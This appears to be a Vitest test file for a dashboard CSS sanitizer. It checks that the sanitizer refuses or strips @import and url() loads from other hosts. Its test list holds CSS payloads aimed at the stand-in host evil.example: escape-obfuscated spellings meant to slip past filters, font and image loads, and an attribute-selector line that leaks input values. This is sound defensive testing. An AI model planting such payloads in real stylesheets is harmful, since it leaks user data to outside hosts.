// Dashboard CSS may not load anything from another host: @import and url() to other hosts, however they are spelled.
import { describe, expect, it } from 'vitest';
import { checkDashboardCss, decodeCssEscapes, isOutsideUrl, stripOutsideResources } from './dashboard-css.js';

const OUTSIDE = [
  '@import "https://evil.example/x.css";',
  "@import url('//evil.example/x.css');",
  '@IMPORT url(http://evil.example/x.css) screen;',
  '@\\69mport "https://evil.example/x.css";',
  '.a { background: url(https://evil.example/leak?x=1); }',
  '.a { background-image: url("//evil.example/p.png"); }',
  ".a { background: url('/\\\\evil.example/p.png'); }",
  '.a { background: \\75 rl(https://evil.example/p.png); }',
  '.a { background: URL( "ht\\74 ps://evil.example/p.png" ); }',
  '.a { background-image: image-set("https://evil.example/a.png" 1x); }',
  '.a { background-image: -webkit-image-set(url(https://evil.example/a.png) 1x); }',
  '@font-face { font-family: x; src: url(https://evil.example/font.woff2); }',
  'input[value^="a"] { background: url(https://evil.example/?a); }',
  '.a { cursor: url(javascript:alert(1)), auto; }',
];

const INSIDE = [
  '.a { color: red; }',
  '.a { background: url(/static/assets/logo.png); }',
  '.a { background: url("images/x.png"); }',
  '.a { background: url(data:image/png;base64,iVBORw0KGgo=); }',
  '.a { fill: url(#gradient); }',
  '@media (max-width: 600px) { .a { display: none; } }',
];

describe('dashboard CSS', () => {
  it.each(OUTSIDE)('refuses %s', (css) => {
    const check = checkDashboardCss(css);
    expect(check.ok).toBe(false);
    // PostCSS reads an escaped at-rule name as no name: refused as invalid, which is as good.
    if ('outside' in check) expect(check.outside.length).toBeGreaterThan(0);
    else expect(css).toContain('@\\69mport');
  });

  it.each(INSIDE)('accepts %s', (css) => {
    expect(checkDashboardCss(css)).toEqual({ ok: true });
  });

  it('names what it refuses', () => {
    expect(checkDashboardCss('@import "https://evil.example/x.css"; .a { background: url(//evil.example/p) }')).toEqual(
      {
        ok: false,
        outside: [
          { kind: 'import', target: 'https://evil.example/x.css' },
          { kind: 'url', target: '//evil.example/p' },
        ],
      },
    );
  });

  it('refuses CSS that does not parse, with the parser message', () => {
    const check = checkDashboardCss('.a { color: red; ');
    expect(check.ok).toBe(false);
    expect('invalid' in check && check.invalid).toMatch(/Unclosed block/);
  });

  it('strips only the outside rules and declarations in the browser, keeping the rest', () => {
    const css = '@import "https://evil.example/x.css";\n.a { color: red; background: url(https://evil.example/p); }';
    const stripped = stripOutsideResources(css);
    expect(stripped).not.toContain('evil.example');
    expect(stripped).toContain('color: red');
    for (const attack of OUTSIDE) expect(stripOutsideResources(attack)).not.toMatch(/evil\.example|javascript/);
    for (const fine of INSIDE) expect(stripOutsideResources(fine)).toBe(fine);
    expect(stripOutsideResources('.a { color: red; ')).toBe('');
  });

  it('decodes escapes and tells outside URLs from relative ones', () => {
    expect(decodeCssEscapes('\\75 rl')).toBe('url');
    expect(decodeCssEscapes('a\\"b')).toBe('a"b');
    expect(isOutsideUrl(' \thttps://x')).toBe(true);
    expect(isOutsideUrl('h\ttps://x')).toBe(true);
    expect(isOutsideUrl('/\\x')).toBe(true);
    expect(isOutsideUrl('/static/x.png')).toBe(false);
    expect(isOutsideUrl('x.png')).toBe(false);
  });
});
